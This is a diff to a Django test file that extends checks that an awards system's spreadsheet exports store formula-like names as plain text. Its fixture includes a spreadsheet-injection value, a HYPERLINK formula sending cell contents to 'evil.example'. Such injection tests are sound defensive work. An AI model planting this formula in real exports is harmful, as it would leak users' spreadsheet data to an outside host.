@@ -21,13 +21,14 @@ from django.urls import reverse
 from import_export.admin import ExportMixin
 from openpyxl import load_workbook
 
-from awards.models import Nomination, Person
+from awards.models import AwardRecord, AwardType, Nomination, Person
 from campaigns.models import Movement, ReviewPeriod
+from council.models import Decision, DecisionEntry
 from organisation.models import OrgUnit
 from songlo.spreadsheets import FORMULA_STARTS, SafeCSV, SafeXLSX, csv_text
 
 ROOT = Path(__file__).resolve().parents[2]
-CODE = ["songlo", "accounts", "organisation", "campaigns", "awards", "council", "demo", "bench"]
+CODE = ["songlo", "accounts", "organisation", "campaigns", "awards", "council", "reports", "demo", "bench"]
 KERNEL = ROOT / "songlo" / "spreadsheets.py"
 # Writing a spreadsheet anywhere but the kernel helper: openpyxl's Workbook(), the csv writers,
 # pandas, tablib exports, or a spreadsheet content type set by hand.
@@ -36,7 +37,17 @@ WRITERS = re.compile(
     r"|content_type\s*=\s*\"application/vnd\.openxmlformats-officedocument\.spreadsheetml"
 )
 # The page exports, by the module that builds their response: each has a case in PAGE_EXPORTS.
-PAGE_EXPORT_CALLS = {"awards/views.py": 1, "awards/import_views.py": 1, "campaigns/views/reviews.py": 1}
+PAGE_EXPORT_CALLS = {
+    "awards/views.py": 1,
+    "awards/import_views.py": 1,
+    "campaigns/views/reviews.py": 1,
+    "council/register_views.py": 2,
+    # The list pages' exports (list_xlsx_response): eligibility, people, award history; registrations; decisions.
+    "awards/exports.py": 3,
+    "campaigns/exports.py": 1,
+    "council/exports.py": 1,
+    "reports/views.py": 1,
+}
 
 HOSTILE = {
     "unit": '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
@@ -93,6 +104,8 @@ def _make_hostile():
     nomination = Nomination.objects.filter(person__isnull=False).order_by("pk").first()
     Person.objects.filter(pk=nomination.person_id).update(full_name=HOSTILE["person"])
     Nomination.objects.filter(pk=nomination.pk).update(override_reason=HOSTILE["reason"], movement=period.movement)
+    decided = DecisionEntry.objects.filter(nomination__person__isnull=False).order_by("pk").first()
+    Person.objects.filter(pk=decided.nomination.person_id).update(full_name=HOSTILE["person"])
     get_user_model().objects.filter(username="vanphong").update(full_name=HOSTILE["user"], email=HOSTILE["email"])
     return period
 
@@ -102,6 +115,24 @@ def _page_exports(period) -> dict[str, str]:
         "campaigns:period_export": reverse("campaigns:period_export", args=[period.pk]),
         "awards:nomination_list?export=xlsx": reverse("awards:nomination_list") + "?export=xlsx",
         "awards:import_template": reverse("awards:import_template"),  # no data of anyone's: fixed labels
+        "council:golden_book?format=xlsx": reverse("council:golden_book") + "?year=2024&format=xlsx",
+        "council:payout_xlsx": reverse("council:payout_xlsx", args=[Decision.objects.order_by("pk").first().pk]),
+        # The statistics form of the renamed unit: its name only inside "Đơn vị báo cáo: …".
+        "reports:form_xlsx": reverse("reports:form_xlsx", args=["0603.N"])
+        + f"?year=2024&body={period.reviews.order_by('unit__path').first().unit.code}",
+        **_list_exports(period),
+    }
+
+
+def _list_exports(period) -> dict[str, str]:
+    unit = OrgUnit.objects.get(name=HOSTILE["unit"])
+    return {
+        "awards:eligibility": reverse("awards:eligibility") + f"?unit={unit.code}&show=all&export=xlsx",
+        "awards:people": reverse("awards:people") + "?export=xlsx",
+        "awards:unit_history": reverse("awards:unit_history", args=[unit.code]) + "?export=xlsx",
+        "campaigns:registration_status": reverse("campaigns:registration_status", args=[period.movement_id])
+        + "?export=xlsx",
+        "council:decision_list": reverse("council:decision_list") + "?export=xlsx",
     }
 
 
@@ -129,14 +160,40 @@ def test_demo_page_exports_write_formula_like_names_as_text(demo):
     period_cells = _cells(client.get(exports["campaigns:period_export"]).content)
     nomination_cells = _cells(client.get(exports["awards:nomination_list?export=xlsx"]).content)
     template_cells = _cells(client.get(exports["awards:import_template"]).content)
+    report_cells = _cells(client.get(exports["reports:form_xlsx"]).content)
 
+    for name in ("council:golden_book?format=xlsx", "council:payout_xlsx"):
+        _assert_no_formula(_cells(client.get(exports[name]).content), {HOSTILE["person"]})
     _assert_no_formula(period_cells, {HOSTILE["unit"], HOSTILE["movement"]})
     _assert_no_formula(nomination_cells, {HOSTILE["person"], HOSTILE["reason"], HOSTILE["movement"]})
     assert template_cells
     assert [c.coordinate for c in template_cells if c.data_type == "f"] == []
+    assert [c.coordinate for c in report_cells if c.data_type == "f"] == []
+    assert any(HOSTILE["unit"] in str(c.value) for c in report_cells)
     # Numbers stay numbers: the row numbers and the years.
     assert {c.data_type for c in nomination_cells if c.column == 11 and c.row > 3} == {"n"}
-    assert {c.data_type for c in period_cells if c.column == 1 and c.row > 3} == {"n"}
+    status_sheet = [c for c in period_cells if c.parent.title == "Tình hình nộp báo cáo"]
+    assert {c.data_type for c in status_sheet if c.column == 1 and c.row > 3} == {"n"}
+
+
+def test_demo_list_exports_write_formula_like_names_as_text(demo):
+    period = _make_hostile()
+    unit = OrgUnit.objects.get(name=HOSTILE["unit"])
+    AwardRecord.objects.create(unit=unit, award_type=AwardType.objects.get(code="TTLDTT"), year=2020)
+    Decision.objects.filter(pk=Decision.objects.order_by("pk").values("pk")[:1]).update(summary=HOSTILE["reason"])
+    client = Client()
+    client.force_login(get_user_model().objects.get(username="vanphong"))
+    expected = {
+        "awards:eligibility": {HOSTILE["unit"]},
+        "awards:people": {HOSTILE["person"]},
+        "awards:unit_history": {HOSTILE["unit"]},
+        "campaigns:registration_status": {HOSTILE["unit"], HOSTILE["movement"]},
+        "council:decision_list": {HOSTILE["reason"]},
+    }
+    for name, url in _list_exports(period).items():
+        response = client.get(url)
+        assert response.status_code == 200, name
+        _assert_no_formula(_cells(b"".join(response.streaming_content)), expected[name])
 
 
 def _export_admins():
